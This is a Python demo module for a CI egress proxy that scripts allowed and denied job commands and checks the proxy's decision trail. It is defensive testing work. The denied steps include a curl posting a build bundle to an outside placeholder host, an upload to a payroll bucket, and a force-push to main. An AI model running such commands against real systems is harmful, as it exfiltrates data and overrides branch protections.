"""The demo's pipeline: each step a real command with what must come of it, and the runner that holds it to that."""

import os
import shutil
import subprocess
import sys
import time
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Final

from proxy.demo.aws import BUCKETS, REGION, DemoPartError
from proxy.demo.flows import Flow, collect_flows
from proxy.demo.git import HOST as GIT_HOST
from proxy.demo.git import REPOSITORY
from proxy.demo.sidecar import Sidecar
from proxy.demo.stage import ELSEWHERE

_SETTLE: Final = 10.0
_LIMIT: Final = 60.0
BUNDLE: Final = "bundle.tgz"
RELEASES, PAYROLL = BUCKETS
_KEY: Final = "storefront/1284/bundle.tgz"


@dataclass(frozen=True, slots=True, kw_only=True)
class Want:
    """What the trail must say about every flow of a step."""

    effect: str
    reason: str
    rule: str | None = None
    connector: str | None = None


@dataclass(frozen=True, slots=True, kw_only=True)
class Step:
    """One command, as a person would type it, and what must happen."""

    says: str
    command: tuple[str, ...]
    want: Want

    @property
    def succeeds(self) -> bool:
        """Whether the command must end with 0: exactly when its flows are allowed."""
        return self.want.effect == "allow"


@dataclass(frozen=True, slots=True, kw_only=True)
class Ran:
    """What came of a step. `faults` are sentences; none means all held."""

    step: Step
    code: int
    output: str
    flows: tuple[Flow, ...]
    faults: tuple[str, ...]


_DENIED: Final = Want(effect="deny", reason="no-rule")
_CLONE: Final = ("git", "clone", f"https://{GIT_HOST}/{REPOSITORY}")

RELEASE_STEPS: Final = (
    Step(
        says="check out the repository",
        command=_CLONE,
        want=Want(effect="allow", reason="allowed", rule="storefront-clone"),
    ),
    Step(
        says="publish the bundle: the job holds no AWS key, jobgate signs with one minted for this job",
        command=("aws", "s3", "cp", BUNDLE, f"s3://{RELEASES}/{_KEY}"),
        want=Want(effect="allow", reason="allowed", rule="storefront-upload", connector="aws"),
    ),
    Step(
        says="tag what was released: the push token is jobgate's, the job has never seen it",
        command=("git", "-C", "storefront", "push", "origin", "HEAD:refs/tags/build-1284"),
        want=Want(effect="allow", reason="allowed", rule="storefront-push", connector="header"),
    ),
    Step(
        says="a typo, or a curious mind: the wrong bucket, though the AWS role itself could write to it",
        command=("aws", "s3", "cp", BUNDLE, f"s3://{PAYROLL}/{BUNDLE}"),
        want=_DENIED,
    ),
    Step(
        says="send the bundle somewhere else: no rule names the host, so it is not even looked up",
        command=("curl", "-sS", "--fail", "--data-binary", f"@{BUNDLE}", f"https://{ELSEWHERE}/upload"),
        want=_DENIED,
    ),
)

PULL_REQUEST_STEPS: Final = (
    Step(
        says="compare with the last release: any build of this pipeline may read it",
        command=("aws", "s3", "cp", f"s3://{RELEASES}/{_KEY}", "last-release.tgz"),
        want=Want(effect="allow", reason="allowed", rule="storefront-download", connector="aws"),
    ),
    Step(
        says="the very command that worked on main",
        command=("aws", "s3", "cp", BUNDLE, f"s3://{RELEASES}/{_KEY}"),
        want=_DENIED,
    ),
    Step(
        says="rewrite main from a pull request",
        command=("git", "push", "--force", f"https://{GIT_HOST}/{REPOSITORY}", "HEAD:main"),
        want=_DENIED,
    ),
)


def find_missing() -> list[str]:
    """Return what the steps need and this machine lacks, as sentences with the remedy."""
    missing = [
        f"`{tool}` is not installed: apt-get install {tool}" for tool in ("git", "curl") if shutil.which(tool) is None
    ]
    if find_aws() is None:
        missing.append("neither the AWS CLI nor boto3 is installed: pip install 'jobgate[demo]'")
    return missing


def find_aws() -> tuple[str, ...] | None:
    """Return how to call `aws`: the CLI of this environment or of the machine, else our boto3 script, else None."""
    beside = Path(sys.executable).parent / "aws"
    if beside.exists():
        return (str(beside),)
    import importlib.util  # noqa: PLC0415 - only when the CLI is missing

    if importlib.util.find_spec("boto3") is not None:
        return (sys.executable, str(Path(__file__).parent / "s3cp.py"))
    return ("aws",) if shutil.which("aws") else None


def make_workspace(folder: Path) -> Path:
    """Make a job's folder with a bundle and a commit in it; return the folder."""
    from proxy.demo.git import run_git  # noqa: PLC0415 - only here

    folder.mkdir(parents=True)
    (folder / BUNDLE).write_bytes(os.urandom(96 * 1024))
    run_git("init", "--quiet", "--initial-branch=main", ".", folder=folder)
    run_git("commit", "--quiet", "--allow-empty", "-m", "Cheaper prices", folder=folder)
    return folder


class Runner:
    """Runs the steps of one job in its workspace, with the environment the agent hook would export."""

    def __init__(self, sidecar: Sidecar, workspace: Path, environment: Mapping[str, str]) -> None:
        self._sidecar = sidecar
        self._workspace = workspace
        # One attempt: a denial is final, and the SDK's retries would only make it slow.
        self.environment = {**environment, "AWS_DEFAULT_REGION": REGION, "AWS_MAX_ATTEMPTS": "1"}
        self.outputs: list[str] = []

    def run(self, step: Step) -> Ran:
        """Run one step and hold what happened against what must. Raises DemoPartError when it cannot be run."""
        before = {flow.flow_id for flow in collect_flows(self._sidecar.records())}
        command = step.command
        if command[0] == "aws":
            command = (*(find_aws() or ("aws",)), *command[1:])
        try:
            done = subprocess.run(  # noqa: S603 - the commands above
                command,
                cwd=self._workspace,
                env=self.environment,
                stdin=subprocess.DEVNULL,
                stdout=subprocess.PIPE,
                stderr=subprocess.STDOUT,
                check=False,
                timeout=_LIMIT,
            )
        except (OSError, subprocess.TimeoutExpired) as error:
            raise DemoPartError(f"`{' '.join(step.command)}` could not be run: {error}") from None
        output = done.stdout.decode(errors="replace")
        self.outputs.append(output)
        flows = self._settled(before)
        return Ran(
            step=step, code=done.returncode, output=output, flows=flows, faults=_faults(step, done.returncode, flows)
        )

    def _settled(self, before: set[str]) -> tuple[Flow, ...]:
        """Return the flows since, once each has ended: an outcome is written a moment after the client's answer."""
        deadline = time.monotonic() + _SETTLE
        while True:
            flows = tuple(flow for flow in collect_flows(self._sidecar.records()) if flow.flow_id not in before)
            if (flows and all(flow.is_over for flow in flows)) or time.monotonic() > deadline:
                return flows
            time.sleep(0.05)


def _told(want: Want) -> str:
    parts = (want.effect, want.reason, want.rule and f"rule {want.rule}", want.connector and f"by {want.connector}")
    return " ".join(part for part in parts if part)


def _faults(step: Step, code: int, flows: tuple[Flow, ...]) -> tuple[str, ...]:
    faults = []
    if (code == 0) is not step.succeeds:
        faults.append(f"the command ended with {code}")
    if not flows:
        faults.append("no flow is on record")
    for flow in flows:
        found = Want(
            effect=flow.effect,
            reason=flow.reason,
            rule=flow.rules[0] if flow.rules else None,
            connector=flow.connector,
        )
        if found != step.want:
            faults.append(f"wanted {_told(step.want)}; found {_told(found)}")
        if step.want.connector is not None and flow.credential is None:
            faults.append(f"{flow.method} {flow.place} was sent without a credential")
    return tuple(dict.fromkeys(faults))
